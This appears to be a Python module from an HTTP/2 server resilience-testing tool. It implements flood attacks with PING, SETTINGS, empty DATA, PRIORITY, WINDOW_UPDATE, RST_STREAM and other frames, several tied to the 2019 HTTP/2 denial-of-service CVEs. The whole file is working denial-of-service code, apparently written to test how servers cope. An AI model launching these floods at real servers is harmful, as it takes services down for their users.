"""Attacks by frames that get nothing done."""

import dataclasses

from attacks import frames
from attacks.outcome import Outcome
from attacks.target import Target

PER_CHUNK = 200
# Twenty times the budget of such frames.
FRAMES = 20_000
# Of a stream that a flood may need.
STREAM = 1


@dataclasses.dataclass(frozen=True)
class Flood:
    """One frame, again and again, by one who takes the answers or one who does not."""

    frame: bytes
    takes_answers: bool = True
    # Whether the stream has a request that waits for more.
    needs_stream: bool = False

    def __call__(self, target: Target, hold: float) -> Outcome:
        with target.connect(self.takes_answers) as attacker:
            if self.needs_stream:
                # The message that it begins never ends.
                opening = frames.headers(STREAM, target.head())
                attacker.send(opening + frames.data(STREAM, b"\0\0\x3f\xff\xff"))
            many = self.frame * PER_CHUNK
            return attacker.flood(lambda _: many, FRAMES // PER_CHUNK)


PING = frames.frame(frames.PING, payload=bytes(8))
PONG = frames.frame(frames.PING, payload=bytes(8), flags=frames.ACK)
ACKNOWLEDGEMENT = frames.frame(frames.SETTINGS, flags=frames.ACK)
PRIORITY = frames.frame(frames.PRIORITY, 9, frames.number(0) + b"\x10")
PRIORITY_UPDATE = frames.frame(0x10, 0, frames.number(STREAM) + b"u=1")
UNKNOWN = frames.frame(0x7F, 0, b"x")
GOAWAY = frames.frame(frames.GOAWAY, 0, bytes(8))

FLOODS = {
    "PING, answers taken (CVE-2019-9512)": Flood(PING),
    "PING, answers left": Flood(PING, takes_answers=False),
    "SETTINGS, answers taken (CVE-2019-9515)": Flood(frames.settings()),
    "SETTINGS, answers left": Flood(frames.settings(), takes_answers=False),
    "answers to no PING": Flood(PONG),
    "answers to no SETTINGS": Flood(ACKNOWLEDGEMENT),
    "empty DATA (CVE-2019-9518)": Flood(frames.data(STREAM), needs_stream=True),
    "tiny DATA": Flood(frames.data(STREAM, b"x"), needs_stream=True),
    "WINDOW_UPDATE of the connection": Flood(frames.window_update(0, 1)),
    "WINDOW_UPDATE of a stream": Flood(frames.window_update(STREAM, 1), needs_stream=True),
    "PRIORITY (CVE-2019-9513)": Flood(PRIORITY),
    "PRIORITY_UPDATE": Flood(PRIORITY_UPDATE),
    "frames of no known type": Flood(UNKNOWN),
    "GOAWAY": Flood(GOAWAY, needs_stream=True),
}


def small_data(target: Target, hold: float) -> Outcome:
    """DATA of five bytes, which may be messages and so are not counted: what they cost shows in
    what others get meanwhile."""
    with target.connect() as attacker:
        opening = frames.headers(STREAM, target.head())
        attacker.send(opening + frames.data(STREAM, b"\0\0\x3f\xff\xff"))
        many = frames.data(STREAM, b"xxxxx") * PER_CHUNK
        return attacker.flood(lambda _: many, FRAMES // PER_CHUNK)


def reset_again(target: Target, hold: float) -> Outcome:
    """RST_STREAM of one stream, again and again."""
    with target.connect() as attacker:
        attacker.send(frames.headers(STREAM, target.head()))
        many = frames.reset(STREAM) * PER_CHUNK
        return attacker.flood(lambda _: many, FRAMES // PER_CHUNK)


def late_data(target: Target, hold: float) -> Outcome:
    """Empty DATA on a stream that is over."""
    with target.connect() as attacker:
        attacker.send(target.call(STREAM, path="/nowhere"))
        attacker.answered(1)
        attacker.send(frames.headers(STREAM + 2, target.head()) + frames.reset(STREAM + 2))
        many = frames.data(STREAM + 2) * PER_CHUNK
        return attacker.flood(lambda _: many, FRAMES // PER_CHUNK)
